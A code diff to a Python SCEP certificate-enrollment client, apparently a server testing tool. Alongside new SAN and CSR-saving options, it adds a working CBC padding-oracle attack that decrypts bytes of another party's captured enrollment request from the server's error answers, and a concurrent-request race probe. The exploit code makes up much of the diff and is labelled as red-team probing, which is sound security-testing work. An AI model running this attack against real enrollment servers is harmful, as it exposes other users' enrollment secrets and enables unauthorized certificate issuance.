@@ -275,6 +275,8 @@ class Http:
         if parsed.scheme == "https":
             self.context = ssl.create_default_context(cafile=ca_file)
         self.log = []
+        # The server's X-Fleetkit-Reason header of the last answer (red-team probes).
+        self.last_reason = None
 
     def url(self, query):
         sep = "&" if "?" in self.base_url else "?"
@@ -289,6 +291,7 @@ class Http:
             with urllib.request.urlopen(req, timeout=self.timeout, context=self.context) as resp:
                 data = resp.read()
                 ctype = resp.headers.get("Content-Type", "")
+                self.last_reason = resp.headers.get("x-fleetkit-reason")
                 self.log.append({"method": method, "url": url[:200], "status": resp.status})
                 return resp.status, ctype, data
         except urllib.error.HTTPError as err:
@@ -422,7 +425,16 @@ def select_ca_ra(certs, fingerprint):
 # CSR, self-signed signer, pkiMessage
 
 
-def build_csr(private_key, subject, challenge, digest, request_ca=False, dns_names=()):
+def build_csr(
+    private_key,
+    subject,
+    challenge,
+    digest,
+    request_ca=False,
+    dns_names=(),
+    email_names=(),
+    uri_names=(),
+):
     pub = asn1_keys.PublicKeyInfo.load(spki_der(private_key.public_key()))
     attributes = []
     if challenge is not None:
@@ -437,12 +449,17 @@ def build_csr(private_key, subject, challenge, digest, request_ca=False, dns_nam
         extensions.append(
             {"extn_id": "basic_constraints", "critical": True, "extn_value": {"ca": True}}
         )
-    if dns_names:
+    if dns_names or email_names or uri_names:
+        names = [asn1_x509.GeneralName(name="dns_name", value=d) for d in dns_names]
+        names += [asn1_x509.GeneralName(name="rfc822_name", value=m) for m in email_names]
+        names += [
+            asn1_x509.GeneralName(name="uniform_resource_identifier", value=u) for u in uri_names
+        ]
         extensions.append(
             {
                 "extn_id": "subject_alt_name",
                 "critical": False,
-                "extn_value": [asn1_x509.GeneralName(name="dns_name", value=d) for d in dns_names],
+                "extn_value": names,
             }
         )
     if extensions:
@@ -933,6 +950,9 @@ def run(args, result):
         method = "post" if "POSTPKIOperation" in caps else "get"
     result["method"] = method
 
+    if args.padding_oracle:
+        return padding_oracle(http, args, result, ra_sign)
+
     # 2. Key, signer and request (or a replayed request).
     renewal = bool(args.renew_with_cert)
     if args.key_in:
@@ -976,8 +996,18 @@ def run(args, result):
         if renewal and not args.challenge_on_renewal:
             challenge = None
         csr_der = build_csr(
-            csr_key, args.subject, challenge, digest, args.request_ca, args.dns_san
+            csr_key,
+            args.subject,
+            challenge,
+            digest,
+            args.request_ca,
+            args.dns_san,
+            args.email_san,
+            args.uri_san,
         )
+        if args.save_csr:
+            with open(args.save_csr, "wb") as fh:
+                fh.write(csr_der)
         transaction_id = args.transaction_id or apple_transaction_id(csr_key.public_key())
         nonce = bytes.fromhex(args.sender_nonce) if args.sender_nonce else os.urandom(16)
         envelope = build_enveloped(csr_der, recipient, cipher)
@@ -987,6 +1017,26 @@ def run(args, result):
         if args.save_request:
             with open(args.save_request, "wb") as fh:
                 fh.write(body)
+        if args.concurrent > 1:
+            bodies = [(body, signer_cert, signer_key)]
+            for _ in range(args.concurrent - 1):
+                if not args.concurrent_distinct:
+                    bodies.append((body, signer_cert, signer_key))
+                    continue
+                k = rsa.generate_private_key(public_exponent=65537, key_size=args.key_size)
+                sc = build_self_signed(k, args.self_signed_digest)
+                c = build_csr(k, args.subject, challenge, digest)
+                b = build_pki_message(
+                    build_enveloped(c, recipient, cipher),
+                    sc,
+                    k,
+                    digest,
+                    MSG_PKCS_REQ,
+                    apple_transaction_id(k.public_key()),
+                    os.urandom(16),
+                )
+                bodies.append((b, sc, k))
+            return send_concurrently(http, method, bodies, ra_sign, result)
 
     result.update(
         {
@@ -1003,6 +1053,7 @@ def run(args, result):
     while True:
         http_status, reply_ctype, reply = send_pki_operation(http, method, body, args.get_encoding)
         result["http_status"] = http_status
+        result["reason"] = http.last_reason
         if reply_ctype.split(";")[0].strip().lower() != "application/x-pki-message":
             result["reply_content_type_warning"] = reply_ctype
         sd, attrs, reply_digest, content = verify_certrep(reply, ra_sign)
@@ -1118,6 +1169,146 @@ def run(args, result):
 
 
 # --------------------------------------------------------------------------
+# Red-team probe: the same (or several) requests at once
+
+
+def send_concurrently(http, method, bodies, ra_sign, result):
+    """Sends every body at the same moment (one thread and connection each); reports
+    each answer's status, failInfo and issued certificate serial."""
+    import threading
+
+    barrier = threading.Barrier(len(bodies))
+    answers = [None] * len(bodies)
+
+    def one(i, body, signer_cert, signer_key):
+        mine = Http(http.base_url, None, http.timeout)
+        mine.context = http.context
+        barrier.wait()
+        try:
+            _s, _c, reply = send_pki_operation(mine, method, body)
+            _sd, attrs, _d, content = verify_certrep(reply, ra_sign)
+            status = STATUS_NAMES.get(printable_attr(attrs, OID_PKI_STATUS, "pkiStatus"))
+            out = {"status": status, "reason": mine.last_reason}
+            if status == "FAILURE":
+                out["fail_info"] = FAIL_INFO_NAMES.get(
+                    printable_attr(attrs, OID_FAIL_INFO, "failInfo", required=False)
+                )
+            elif status == "SUCCESS":
+                _cipher, degenerate = decrypt_reply(content, signer_cert, signer_key)
+                out["cert_serial"] = format(certs_from_degenerate(degenerate)[0].serial_number, "x")
+        except ClientError as err:
+            out = {"status": err.status, "message": err.message}
+        answers[i] = out
+
+    threads = [
+        threading.Thread(target=one, args=(i, b, sc, k)) for i, (b, sc, k) in enumerate(bodies)
+    ]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join()
+    result["answers"] = answers
+    result["status"] = "CONCURRENT"
+    return EXIT_SUCCESS
+
+
+# --------------------------------------------------------------------------
+# Red-team probe: CBC padding oracle on a captured request
+
+
+def padding_oracle(http, args, result, ra_sign):
+    """Recovers the last --oracle-bytes bytes of plaintext block --oracle-block of the
+    EnvelopedData of a captured request, by sending that block alone under chosen IVs,
+    wrapped in a SignedData of our own (a fresh self-signed key), and telling valid
+    from invalid padding by the CertRep's failInfo (or reason header)."""
+    der = open(args.padding_oracle, "rb").read()
+    sd = cms.ContentInfo.load(der)["content"]
+    env = cms.ContentInfo.load(sd["encap_content_info"]["content"].native)["content"]
+    eci = env["encrypted_content_info"]
+    alg = eci["content_encryption_algorithm"]
+    iv = alg["parameters"].native
+    ct = eci["encrypted_content"].native
+    bs = len(iv)
+    b = args.oracle_block
+    prev = iv if b == 0 else ct[(b - 1) * bs : b * bs]
+    target = ct[b * bs : (b + 1) * bs]
+    if len(target) != bs:
+        raise other_error("no such ciphertext block")
+    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+    signer = build_self_signed(key, "sha256")
+    answers = {}
+    queries = [0]
+
+    def answer(iv2):
+        new_env = cms.EnvelopedData(
+            {
+                "version": env["version"],
+                "recipient_infos": env["recipient_infos"],
+                "encrypted_content_info": {
+                    "content_type": "data",
+                    "content_encryption_algorithm": {
+                        "algorithm": alg["algorithm"],
+                        "parameters": core.OctetString(bytes(iv2)),
+                    },
+                    "encrypted_content": target,
+                },
+            }
+        )
+        envelope = cms.ContentInfo({"content_type": "enveloped_data", "content": new_env}).dump()
+        body = build_pki_message(
+            envelope, signer, key, "sha256", MSG_PKCS_REQ, uuid.uuid4().hex, os.urandom(16)
+        )
+        queries[0] += 1
+        _status, _ctype, reply = send_pki_operation(http, "post", body)
+        _sd, attrs, _digest, _content = verify_certrep(reply, ra_sign)
+        fail = printable_attr(attrs, OID_FAIL_INFO, "failInfo", required=False)
+        seen = (fail, http.last_reason)
+        answers[seen] = answers.get(seen, 0) + 1
+        return seen
+
+    # Every guess of one byte is sent; the answer that stands out (the rare one) is
+    # valid padding.
+    inter = [None] * bs
+    for pos in range(bs - 1, bs - 1 - args.oracle_bytes, -1):
+        pad = bs - pos
+        prefix = os.urandom(bs)
+        by_answer = {}
+        for g in range(256):
+            iv2 = bytearray(prefix)
+            for j in range(pos + 1, bs):
+                iv2[j] = inter[j] ^ pad
+            iv2[pos] = g
+            by_answer.setdefault(answer(iv2), []).append(g)
+        if len(by_answer) < 2:
+            break  # every answer alike: no oracle
+        rare = min(by_answer.values(), key=len)
+        common = max(by_answer, key=lambda k: len(by_answer[k]))
+        found = None
+        for g in rare:
+            if pos == bs - 1:
+                iv3 = bytearray(prefix)
+                iv3[pos] = g
+                iv3[pos - 1] ^= 0xFF
+                if answer(iv3) == common:
+                    continue
+            found = g
+            break
+        if found is None:
+            break
+        inter[pos] = found ^ pad
+    recovered = bytes(
+        inter[p] ^ prev[p] for p in range(bs - args.oracle_bytes, bs) if inter[p] is not None
+    )
+    result["recovered_hex"] = recovered.hex()
+    result["oracle_queries"] = queries[0]
+    result["oracle_answers"] = [
+        {"fail_info": k[0], "reason": k[1], "count": v} for k, v in answers.items()
+    ]
+    result["status"] = "ORACLE"
+    return EXIT_SUCCESS
+
+
+# --------------------------------------------------------------------------
 # CLI
 
 
@@ -1148,6 +1339,28 @@ def parse_args(argv):
     p.add_argument("--key-size", type=int, default=2048)
     p.add_argument("--request-ca", action="store_true", help="ask for CA:TRUE (bad input)")
     p.add_argument("--dns-san", action="append", default=[], help="request a DNS SAN")
+    p.add_argument("--email-san", action="append", default=[], help="request an e-mail SAN")
+    p.add_argument("--uri-san", action="append", default=[], help="request a URI SAN")
+    p.add_argument("--save-csr", help="write the PKCS#10 request (DER) here")
+    p.add_argument(
+        "--padding-oracle",
+        help="red-team probe: a saved PKIOperation body (someone else's request) whose "
+        "EnvelopedData is re-sent under our own signature with chosen IVs, to recover "
+        "plaintext bytes from the server's answers (CBC padding oracle)",
+    )
+    p.add_argument("--oracle-block", type=int, default=0, help="plaintext block to attack")
+    p.add_argument(
+        "--concurrent",
+        type=int,
+        default=1,
+        help="red-team probe: send the request this many times at once",
+    )
+    p.add_argument(
+        "--concurrent-distinct",
+        action="store_true",
+        help="with --concurrent: each copy a new key, CSR and transactionID",
+    )
+    p.add_argument("--oracle-bytes", type=int, default=1, help="bytes to recover (from the end)")
     p.add_argument("--key-in", help="PEM/DER private key for the CSR (default: new RSA key)")
     p.add_argument("--key-out", help="write the CSR private key here (PEM)")
     p.add_argument("--cert-out", help="write the issued certificate here (PEM)")
